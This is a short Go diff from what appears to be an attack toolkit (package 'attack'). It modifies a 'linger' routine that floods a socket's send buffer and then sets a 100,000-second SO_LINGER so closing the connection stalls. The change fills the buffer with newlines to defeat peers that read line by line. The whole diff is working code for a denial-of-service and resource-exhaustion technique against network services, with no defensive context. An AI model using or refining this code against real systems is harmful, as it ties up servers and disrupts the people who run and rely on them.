@@ -3,6 +3,7 @@
 package attack
 
 import (
+	"bytes"
 	"errors"
 	"math/rand/v2"
 	"net"
@@ -14,9 +15,9 @@ import (
 // lingerSeconds is how long closing a connection waits for a peer that does not read.
 const lingerSeconds = 100_000
 
-// linger fills a connection until it takes nothing more, and has its close wait.
+// linger fills a connection until it takes nothing more, and has its close wait. A peer that reads a line reads no more than that.
 func linger(fd int) error {
-	for block := make([]byte, 64<<10); ; {
+	for block := bytes.Repeat([]byte("\n"), 64<<10); ; {
 		_, err := unix.SendmsgN(fd, block, nil, nil, unix.MSG_DONTWAIT|unix.MSG_NOSIGNAL)
 		if errors.Is(err, unix.EAGAIN) && isFull(fd) {
 			return unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1, Linger: lingerSeconds})
